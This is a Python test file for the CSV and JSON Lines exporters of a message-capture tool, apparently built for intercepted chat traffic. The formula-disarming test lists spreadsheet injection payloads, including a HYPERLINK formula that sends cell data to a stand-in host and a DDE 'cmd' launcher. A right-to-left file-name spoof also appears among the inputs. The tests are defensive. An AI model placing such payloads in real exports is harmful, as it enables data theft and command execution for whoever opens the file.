"""JSON Lines and CSV: what other programs read."""

import csv
import io
import json
import subprocess
import sys

import pytest

from rcds_sniffer.export import FORMATS, open_writer
from rcds_sniffer.records.record import FIELDS

from .export_crafting import evening, export, make_record


def rows(*records):
    return list(csv.DictReader(io.StringIO(export("csv", records), newline=""), strict=True))


def test_jsonl_has_exactly_the_contracts_fields():
    lines = export("jsonl", evening()).split("\n")
    assert lines.pop() == ""
    assert [tuple(json.loads(line)) for line in lines] == [FIELDS] * len(evening())


def test_jsonl_is_the_records_json():
    records = evening()
    assert export("jsonl", records) == "".join(record.to_json() + "\n" for record in records)


@pytest.mark.parametrize("text", ["\0\x1b[2J\r\n", "\u202egpj.exe\u2028", "a\ud83d", "你好 🙂", "'\"\\"])
def test_jsonl_is_exact_and_one_line(text):
    out = export("jsonl", [make_record(text=text, sender_name=text)])
    out.encode()  # any stream can take it
    assert out.count("\n") == 1
    assert json.loads(out)["text"] == text
    assert json.loads(out)["sender_name"] == text


def test_jsonl_and_csv_load_no_rich():
    program = (
        "import sys\n"
        "from rcds_sniffer.export import open_writer\n"
        "for name in 'jsonl', 'csv': open_writer(name, sys.stdout)\n"
        "sys.exit('rich' in sys.modules)\n"
    )
    subprocess.run([sys.executable, "-c", program], check=True)


def test_csv_golden():
    record = make_record(
        record_id="7", text='say "hi", Bob\r\nplease', sender_name="=1+1", complete=False, missing_bytes=3
    )
    assert export("csv", [record]) == (
        "record_id,order_id,target,time,protocol,protocol_version,event,direction,conversation_id,sender,"
        "sender_name,recipients,text,content_type,format,file,client,server,sensor,source,complete,"
        "missing_bytes,details\r\n"
        '"7",,"alice@example.org","2026-11-22T22:15:00.000000Z","msnp","MSNP15","message","from-target","c1",'
        '"alice@example.org","\'=1+1","[""bob@example.org""]","say ""hi"", Bob\nplease",,,,"192.0.2.7:1042",'
        '"198.51.100.3:1863","nis-1","{""name"":""evening.pcap"",""packet"":7}",false,3,\r\n'
    )


def test_csv_of_nothing_is_a_header():
    assert export("csv", []) == ",".join(FIELDS) + "\r\n"


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://x/?"&A1,"click")', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1",
     "=cmd|' /C calc'!A0"],
)  # fmt: skip
@pytest.mark.parametrize("field", ["text", "sender_name", "sender", "target", "conversation_id"])
def test_csv_disarms_formulas(text, field):
    assert rows(make_record(**{field: text}))[0][field].startswith("'")


@pytest.mark.parametrize("text", ["a=1", ":-)", " =1", "爱", "'quoted'", ""])
def test_csv_leaves_other_texts_alone(text):
    assert rows(make_record(text=text))[0]["text"] == text


def test_csv_tells_null_from_empty():
    line = export("csv", [make_record(text="", sender_name=None)]).splitlines()[1]
    assert ',"alice@example.org",,"[""bob@example.org""]","",' in line


def test_csv_objects_are_json():
    row = rows(make_record(details={"a": ["\u202e\x7f\n", None, 1.5]}, recipients=()))[0]
    assert json.loads(row["details"]) == {"a": ["\u202e\x7f\n", None, 1.5]}
    assert row["recipients"] == "[]"


def test_csv_keeps_a_separator_of_another_country_in_its_cell():
    out = export("csv", [make_record(text="a;=1+1")])
    assert '"a;=1+1"' in out


def test_every_format_can_be_opened_and_says_what_it_is():
    for name, form in FORMATS.items():
        open_writer(name, io.StringIO())
        assert form.summary


def test_an_unknown_format_is_a_key_error():
    with pytest.raises(KeyError):
        open_writer("xml", io.StringIO())


@pytest.mark.parametrize("name", ["jsonl", "csv"])
def test_batches_make_one_export(name):
    stream = io.StringIO(newline="")
    writer = open_writer(name, stream)
    records = evening()
    for record in records:
        writer.write([record])
    writer.flush()
    assert stream.getvalue() == export(name, records)
